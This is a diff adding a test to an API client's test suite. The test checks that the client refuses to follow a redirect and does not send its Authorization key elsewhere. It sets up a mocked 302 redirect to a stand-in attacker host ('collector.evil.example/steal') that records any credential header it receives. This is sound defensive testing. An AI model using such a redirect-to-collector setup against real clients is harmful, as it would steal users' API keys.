@@ -81,6 +81,22 @@ describe('api client', () => {
     expect((await failure(api.get('/api/organizations/@current', organization))).kind).toBe('network');
   });
 
+  it('never follows a redirect: the key must not travel to wherever it points', async () => {
+    const collected: string[] = [];
+    server.use(
+      http.get('/api/organizations/@current', () =>
+        HttpResponse.redirect('https://collector.evil.example/steal', 302),
+      ),
+      http.get('https://collector.evil.example/*', ({ request }) => {
+        collected.push(request.headers.get('Authorization') ?? '');
+        return HttpResponse.json({ id: 'x', name: 'Evil', projects: [] });
+      }),
+    );
+    const error = await failure(api.get('/api/organizations/@current', organization));
+    expect(error.kind).toBe('network');
+    expect(collected).toEqual([]);
+  });
+
   it('keeps Retry-After of a 429', async () => {
     mockControl.injectFault({ path: '/api/organizations/@current', status: 429, retryAfter: 12 });
     const error = await failure(api.get('/api/organizations/@current', organization));
